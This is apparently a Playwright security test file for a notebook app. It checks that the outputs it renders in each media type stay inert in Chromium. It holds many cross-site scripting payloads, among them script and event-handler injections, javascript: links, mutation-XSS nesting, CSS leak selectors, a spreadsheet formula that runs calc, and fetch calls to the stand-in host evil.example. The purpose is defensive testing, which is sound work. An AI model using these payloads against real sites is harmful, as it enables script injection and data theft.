/**
 * What a notebook wrote is shown, and nothing of it acts: every media type with everything in it that ever ran anywhere,
 * in Chromium. Judged by what would be left behind: a mark on any window, a request, a dialog, another page.
 */
import { readFileSync } from 'node:fs'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import type { BrowserContext, Page } from 'playwright-core'
import { chromiumPath, openVisits, type Visits } from './browser.ts'
import { serve, type Served } from './serve.ts'

const act = "parent.acted=1;top.acted=1;window.acted=1;fetch('https://evil.example/ran')"
const html = [
  '<b id="shown">shown</b>',
  `<script>${act}</script><script src="https://evil.example/a.js"></script><script type="module">${act}</script>`,
  `<img src=x onerror="${act}"><img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">`,
  `<svg onload="${act}"><script>${act}</script><foreignObject><iframe srcdoc="<script>${act}</script>"></iframe></foreignObject></svg>`,
  `<body onload="${act}" background="https://evil.example/b.png"><details open ontoggle="${act}">d</details>`,
  `<iframe src="javascript:${act}"></iframe><iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  '<meta http-equiv="refresh" content="0;url=https://evil.example/meta"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><link rel="preload" href="https://evil.example/p" as="fetch">',
  `<a id="go" href="javascript:${act}">script link</a><a id="away" href="https://evil.example/away" target="_top" ping="https://evil.example/ping">link away</a>`,
  `<form action="https://evil.example/form"><input autofocus onfocus="${act}" name="q"><button id="send" formaction="javascript:${act}">send</button></form>`,
  '<style>@import "https://evil.example/i.css"; @font-face{font-family:f;src:url(https://evil.example/f.woff)} :host{position:fixed!important;inset:0!important;z-index:2147483647!important;background:url(https://evil.example/host.png)!important} p{font-family:f;background:url("https://evil.example/css?leak")} input[value^="a"]{background:url(https://evil.example/attr)}</style>',
  `<p style="background:url(https://evil.example/style.png);position:fixed;inset:0">styled</p><video src="https://evil.example/v" poster="https://evil.example/poster" onerror="${act}"></video><audio src="https://evil.example/a" onerror="${act}"></audio>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${act}"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  `<template><script>${act}</script></template><marquee onstart="${act}">m</marquee><img src="data:text/html,<script>${act}</script>">`,
].join('\n')
const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="60" onload="${act}">
<script>${act}</script><script xlink:href="https://evil.example/svg.js"/><text y="20" id="drawn">drawn</text>
<foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><script>${act}</script><iframe src="javascript:${act}"/></body></foreignObject>
<image href="https://evil.example/image.png" width="9" height="9"/><use href="data:image/svg+xml,&lt;svg id='x' onload='${act.replaceAll("'", '&quot;').replaceAll('&', '&amp;')}'/>#x"/>
<a xlink:href="javascript:${act}"><text y="40" id="svglink">link</text></a>
<animate attributeName="href" values="javascript:${act}" begin="0s"/><set attributeName="onmouseover" to="${act}"/>
<style>@import url(https://evil.example/svg.css); text{fill:url(https://evil.example/fill)}</style></svg>`
const markup = `<img src=x onerror="${act}"><script>${act}</script>`
/** Where a limit cuts or refuses what is longer. */
const short = `<img src=x onerror="parent.acted=1">`
const markdown = `# ${markup}
[a](javascript:${act}) [b](data:text/html,<script>${act}</script>) [c](  JaVaScRiPt:${act}) [d](vbscript:x)
![p](https://evil.example/markdown.png) <iframe src="https://evil.example/"></iframe> <javascript:alert(1)>
$\\href{javascript:${act}}{x} \\includegraphics{https://evil.example/katex.png} \\htmlData{onclick=${'x'}}{y}$ and $e^{i\\pi}$

| ${markup} |
|---|
| ${markup} |
`
const figure = {
  data: [
    {
      type: 'scatter',
      name: `${markup}<a href="javascript:${act}">n</a>`,
      x: [1, 2],
      y: [1, 2],
      text: [markup, `<a xlink:href="javascript:${act}">t</a>`],
      hovertemplate: `${markup}<extra>${markup}</extra>`,
      mode: 'lines+markers+text',
      customdata: [markup],
    },
    { type: 'bar', x: [markup, 'b'], y: [1, 2], name: 'second' },
  ],
  layout: {
    title: {
      text: `title <a href="javascript:${act}">js</a><a href="https://evil.example/title">away</a>${markup}`,
    },
    xaxis: { title: { text: markup } },
    annotations: [
      { text: `<a href="javascript:${act}">note</a>${markup}`, x: 1, y: 1, clicktoshow: 'onoff' },
    ],
    images: [{ source: 'https://evil.example/layout.png', x: 0, y: 1, sizex: 1, sizey: 1 }],
    template: {
      layout: { images: [{ source: 'https://evil.example/template.png', x: 0, y: 1, sizex: 1, sizey: 1 }] },
    },
    showlegend: true,
  },
}
const table = {
  names: [markup, 'b'],
  types: { [markup]: 'text', b: markup },
  length: 2,
  rows: [
    { [markup]: markup, b: `javascript:${act}` },
    { [markup]: `=cmd|'/c calc'!A1`, b: markup },
  ],
}
const error = {
  name: markup,
  message: markup,
  cell: '1',
  line: 1,
  column: 1,
  stack: `at ${markup} (cell 1:1:1)`,
  thrown: markup,
}
const bundles: { [name: string]: object } = {
  html: { 'text/html': html },
  svg: { 'image/svg+xml': svg },
  markdown: { 'text/markdown': markdown },
  figure: { 'application/vnd.plotly.v1+json': figure },
  table: { 'application/vnd.suricate.table+json': table },
  error: { 'application/vnd.suricate.error+json': error },
  progress: { 'application/vnd.suricate.progress+json': { done: 1, total: 2, label: markup } },
  json: { 'application/json': { [markup]: markup } },
  text: { 'text/plain': `${markup}\u001b]8;;javascript:alert(1)\u0007link\u202e` },
  image: { 'image/png': `" onerror="${act}`, 'text/plain': 'no image' },
  'image of svg': { 'image/png': Buffer.from(svg).toString('base64') },
  'a JPEG of HTML': { 'image/jpeg': Buffer.from(html).toString('base64') },
  'a GIF that is a script': { 'image/gif': Buffer.from(`GIF89a/*x*/=1;${act}`).toString('base64') },
  stdout: { 'text/plain': `\u001b[31m${markup}\u001b[0m` },
  stderr: { 'text/plain': markup },
  ...Object.fromEntries(
    [
      'application/javascript',
      'text/javascript',
      'application/xhtml+xml',
      'application/xml',
      'application/pdf',
      'text/latex',
      'text/css',
      'image/webp',
      'video/mp4',
      'application/vnd.jupyter.widget-view+json',
      'application/vnd.bokehjs_exec.v0+json',
      'application/vnd.suricate.made-up+json',
    ].map((type) => [
      `unknown ${type}`,
      { [type]: type.endsWith('+json') ? { html, js: act } : html, 'text/plain': markup },
    ]),
  ),
  ...Object.fromEntries(
    [
      { kind: 'slider', value: 1, initial: 1, min: 0, max: 2, step: 1 },
      {
        kind: 'select',
        value: short,
        initial: short,
        options: [{ label: short, value: short }],
        multiple: false,
      },
      {
        kind: 'text',
        value: markup,
        initial: markup,
        placeholder: short,
        multiline: true,
        maxLength: 10_000,
      },
      { kind: 'date', value: '2026-01-02', initial: '2026-01-02' },
      { kind: 'button', value: 0, initial: 0 },
      {
        kind: 'table',
        value: [0],
        initial: [],
        select: 'single',
        names: [markup],
        types: { [markup]: markup },
        length: 1,
        rows: [{ [markup]: markup }],
      },
      { kind: short, value: { html } },
    ].map((control) => [
      `an input of kind ${control.kind.slice(0, 8)}`,
      {
        'application/vnd.suricate.input+json': { id: short, label: short, description: short, ...control },
        'text/plain': markup,
      },
    ]),
  ),
}

test('every media type that is rendered stands among those that are tried', () => {
  const mimes = /'((?:text|image|application)\/[\w.+-]+)'/g
  const sources = ['components/output/outputs.tsx', 'runtime/notebook/output.ts', 'runtime/api/inputs.ts']
  const rendered = sources.flatMap((path) =>
    [...readFileSync(path, 'utf8').matchAll(mimes)].map(([, type]) => type),
  )
  const tried = new Set(Object.values(bundles).flatMap((bundle) => Object.keys(bundle)))
  expect(rendered.length).toBeGreaterThan(10)
  expect(rendered.filter((type) => !tried.has(type!))).toEqual([])
})

const titled = chromiumPath
  ? 'outputs in Chromium'
  : 'outputs in Chromium (skipped: there is no Chromium; install it or set CHROMIUM)'
describe.skipIf(!chromiumPath)(titled, { timeout: 120_000 }, () => {
  let served: Served
  let visits: Visits
  beforeAll(async () => {
    served = await serve()
    visits = await openVisits(served.url)
  })
  /** One for all tests: what the pages load is compiled once. */
  let context: BrowserContext | undefined
  afterEach(async () => {
    for (const event of ['request', 'requestfailed', 'page'] as const) context?.removeAllListeners(event)
    await Promise.all((context?.pages() ?? []).map((page) => page.close()))
  })
  afterAll(async () => {
    await visits?.close()
    await served?.close()
  })

  interface Seen {
    page: Page
    requests: string[]
    pages: string[]
  }
  /** The notebook with these outputs of its first cell, and all that left the page since. */
  async function show(list: object[]): Promise<Seen> {
    context ??= (await visits.open('/settings')).page.context()
    const page = await context.newPage()
    page.setDefaultTimeout(30_000)
    const requests: string[] = []
    const pages: string[] = []
    context.on('request', (request) => {
      if (!request.url().startsWith(served.url) && !/^(data|blob):/.test(request.url()))
        requests.push(request.url())
    })
    // what the policy stops is told as a request, too, and as one that never left
    context.on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') requests.splice(requests.indexOf(request.url()), 1)
    })
    context.on('page', (other) => pages.push(other.url()))
    page.on('dialog', (dialog) => {
      pages.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    const items = list.map((data, i) => {
      const kind = data === bundles['stdout'] ? 'stdout' : data === bundles['stderr'] ? 'stderr' : 'display'
      return { seq: i + 1, cell: 'CELL', kind, data, at: 1 }
    })
    await page.route('**/api/v1/notebooks/*/outputs*', async (route) => {
      const notebook = await page.request.get(`${served.url}/api/v1/notebooks/notebook-learn`, {
        // a connection that was kept may be closed at this moment
        maxRetries: 2,
      })
      const { cells } = (await notebook.json()) as { cells: { id: string; type: string }[] }
      const cell = cells.find((one) => one.type === 'typescript')!.id
      const body = { items: items.map((item) => ({ ...item, cell })), lastSeq: items.length }
      await route.fulfill({ json: body })
    })
    await page.goto(`${served.url}/notebooks/notebook-learn`)
    await page.getByRole('group', { name: 'Outputs' }).first().waitFor()
    return { page, requests, pages }
  }
  const frameOf = (page: Page) => page.frames().find((frame) => frame.url().includes('output-frame'))
  /** Nothing ran, left or changed; the frame has no origin. */
  async function judge({ page, requests, pages }: Seen, name: string): Promise<void> {
    const acted = await Promise.all(page.frames().map((frame) => frame.evaluate(() => 'acted' in globalThis)))
    const origin = await frameOf(page)?.evaluate(() => globalThis.origin)
    const at = new URL(page.url()).pathname
    const left = await page.evaluate(() => ({
      scripts: document.querySelectorAll('main script, [role="group"] script, [onerror], [onload]').length,
      frames: [...document.querySelectorAll('iframe')].map((frame) => frame.getAttribute('sandbox')),
      links: [...document.querySelectorAll('[role="group"] a')].filter(
        (a) => !/^(https?:|mailto:|blob:|\/)/.test((a as HTMLAnchorElement).href),
      ).length,
    }))
    expect({
      name,
      acted: acted.includes(true),
      origin: origin ?? 'null',
      at,
      requests,
      pages,
      left,
    }).toEqual({
      name,
      acted: false,
      origin: 'null',
      at: '/notebooks/notebook-learn',
      requests: [],
      pages: [],
      left: { scripts: 0, frames: left.frames.map(() => 'allow-scripts'), links: 0 },
    })
  }
  const settle = (page: Page) =>
    page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))))

  test.each(Object.keys(bundles))('%s is inert', async (name) => {
    const seen = await show([bundles[name]!, { 'text/markdown': 'the end' }])
    await seen.page.getByText('the end').waitFor()
    const frame = seen.page.frameLocator('iframe[title^="Figures"]')
    if (name === 'html') await frame.locator('#shown').waitFor()
    if (name === 'svg') await frame.locator('#drawn').waitFor()
    if (name === 'figure') await frame.locator('.js-plotly-plot .legend').waitFor()
    if (name === 'markdown') await seen.page.locator('.katex').first().waitFor()
    await settle(seen.page)
    await judge(seen, name)
  })

  test('what is clicked, sent or hovered leads nowhere', async () => {
    const seen = await show([bundles['html']!, bundles['svg']!, bundles['figure']!])
    const frame = seen.page.frameLocator('iframe[title^="Figures"]')
    for (const id of ['go', 'away', 'svglink']) await frame.locator(`#${id}`).dispatchEvent('click')
    await frame.locator('.js-plotly-plot .legend').waitFor()
    for (const link of await frame.locator('.js-plotly-plot a').all()) await link.dispatchEvent('click')
    await frame.locator('.js-plotly-plot .nsewdrag').first().hover({ force: true })
    await settle(seen.page)
    await judge(seen, 'clicks')
  })

  test('an output cannot cover the page or another output', async () => {
    const { page } = await show([bundles['html']!])
    await page.frameLocator('iframe[title^="Figures"]').locator('#shown').waitFor()
    await settle(page)
    const clip = await page.locator('.stage-frame').evaluate((frame) => getComputedStyle(frame).clipPath)
    const place = (await page.locator('.rich').first().boundingBox())!
    const stage = (await page.locator('.stage').boundingBox())!
    // Chromium tells a path with absolute coordinates: left, top, right, bottom, left.
    const corners = [...clip.matchAll(/-?[\d.]+/g)].map(([figure]) => Math.round(Number(figure)))
    const left = Math.round(place.x - stage.x)
    const top = Math.round(place.y - stage.y)
    expect([clip.replaceAll(/[-\d.]+/g, '0'), corners]).toEqual([
      'path("M 0 0 H 0 V 0 H 0 Z")',
      [left, top, left + Math.round(place.width), top + Math.round(place.height), left],
    ])
    const slot = await frameOf(page)!.evaluate(() => {
      const box = document.querySelector('.slot')!.getBoundingClientRect()
      const over = document.elementFromPoint(box.left + 5, box.bottom + 40)
      return {
        fixed: getComputedStyle(document.querySelector('.slot')!).position,
        over: over?.className ?? '',
      }
    })
    expect(slot).toEqual({ fixed: 'absolute', over: '' })
  })

  test('the frame speaks to its page only in words that the page checks', async () => {
    const { page, requests, pages } = await show([bundles['figure']!])
    await page.frameLocator('iframe[title^="Figures"]').locator('.js-plotly-plot .legend').waitFor()
    await frameOf(page)!.evaluate((text) => {
      for (const message of [
        null,
        1,
        'x',
        { type: 'height', id: '__proto__', height: 1e12 },
        { type: 'picture', request: 1, value: text },
        { type: 'ready' },
      ])
        parent.postMessage(message, '*')
    }, markup)
    const refused = await frameOf(page)!.evaluate(() => {
      const tries = [
        () => parent.document.title,
        () => localStorage.length,
        () => document.cookie,
        () => (top!.location.href = 'https://evil.example/top'),
        () => open('https://evil.example/open'),
      ]
      return tries.map((attempt) => {
        try {
          return attempt() === null ? 'null' : 'allowed'
        } catch {
          return 'refused'
        }
      })
    })
    expect(refused).toEqual(['refused', 'refused', 'refused', 'refused', 'null'])
    await settle(page)
    await judge({ page, requests, pages }, 'messages')
  })

  test('a figure is saved as PNG and SVG, and shown as a table', async () => {
    const { page } = await show([
      { 'application/vnd.plotly.v1+json': { data: [{ x: [1, 2], y: [3, 4], name: 'v' }], layout: {} } },
    ])
    await page.frameLocator('iframe[title^="Figures"]').locator('.js-plotly-plot .scatterlayer').waitFor()
    for (const [format, start] of [
      ['PNG', '\u0089PNG'],
      ['SVG', '<svg'],
    ] as const) {
      await page.getByRole('button', { name: 'Save', exact: true }).focus()
      await page.keyboard.press('Enter')
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('menuitem', { name: `Save as ${format}` }).click(),
      ])
      expect(download.suggestedFilename()).toBe(`figure.${format.toLowerCase()}`)
      const chunks: Buffer[] = []
      for await (const chunk of await download.createReadStream()) chunks.push(chunk as Buffer)
      const bytes = Buffer.concat(chunks)
      expect([bytes.toString('latin1', 0, 4), bytes.length > 1000]).toEqual([start, true])
    }
    await page.getByRole('button', { name: 'Show as table' }).press('Enter')
    const grid = page.getByRole('grid', { name: 'Table of the figure' })
    await grid.waitFor()
    expect(await grid.getByRole('row').allInnerTexts()).toEqual([
      expect.stringContaining('x'),
      '1\n3',
      '2\n4',
    ])
    await page.getByRole('button', { name: 'Show as figure' }).press('Enter')
    await page.frameLocator('iframe[title^="Figures"]').locator('.js-plotly-plot .scatterlayer').waitFor()
  })

  test('an error tells its place, what was thrown, and the way there, each by key', async () => {
    const told = {
      name: 'Error',
      message: 'too many',
      cell: '1',
      line: 2,
      column: 14,
      thrown: '{"code":4}',
      stack: 'at check (cell 1:2:14)\nat cell (cell 2:1:10)',
    }
    const { page } = await show([{ 'application/vnd.suricate.error+json': told, 'text/plain': 'x' }])
    const alert = page.getByRole('group', { name: 'Outputs' }).first().getByRole('alert')
    expect(await alert.innerText()).toContain('Error: too many (cell 1, line 2, column 14)')
    expect(await alert.getByText('{"code":4}').isVisible()).toBe(false)
    await alert.getByText('What was thrown').focus()
    await page.keyboard.press('Enter')
    await alert.getByText('{"code":4}').waitFor()
    await alert.getByText('Where it came from').focus()
    await page.keyboard.press('Enter')
    await alert.getByRole('button', { name: 'cell 2:1:10' }).press('Enter')
    await expect
      .poll(() => page.evaluate(() => document.activeElement?.closest('[data-cell]') !== null))
      .toBe(true)
  })

  test('long text is cut, and shown whole on demand', async () => {
    const text = Array.from({ length: 500 }, (_, i) => `line ${i}`).join('\n')
    const { page } = await show([{ 'text/plain': text }])
    const outputs = page.getByRole('group', { name: 'Outputs' }).first()
    expect(await outputs.getByText('line 499').count()).toBe(0)
    await outputs.getByRole('button', { name: 'Show 460 more lines' }).press('Enter')
    await outputs.getByText('line 499').waitFor()
    await outputs.getByRole('button', { name: 'Show less' }).waitFor()
  })
})
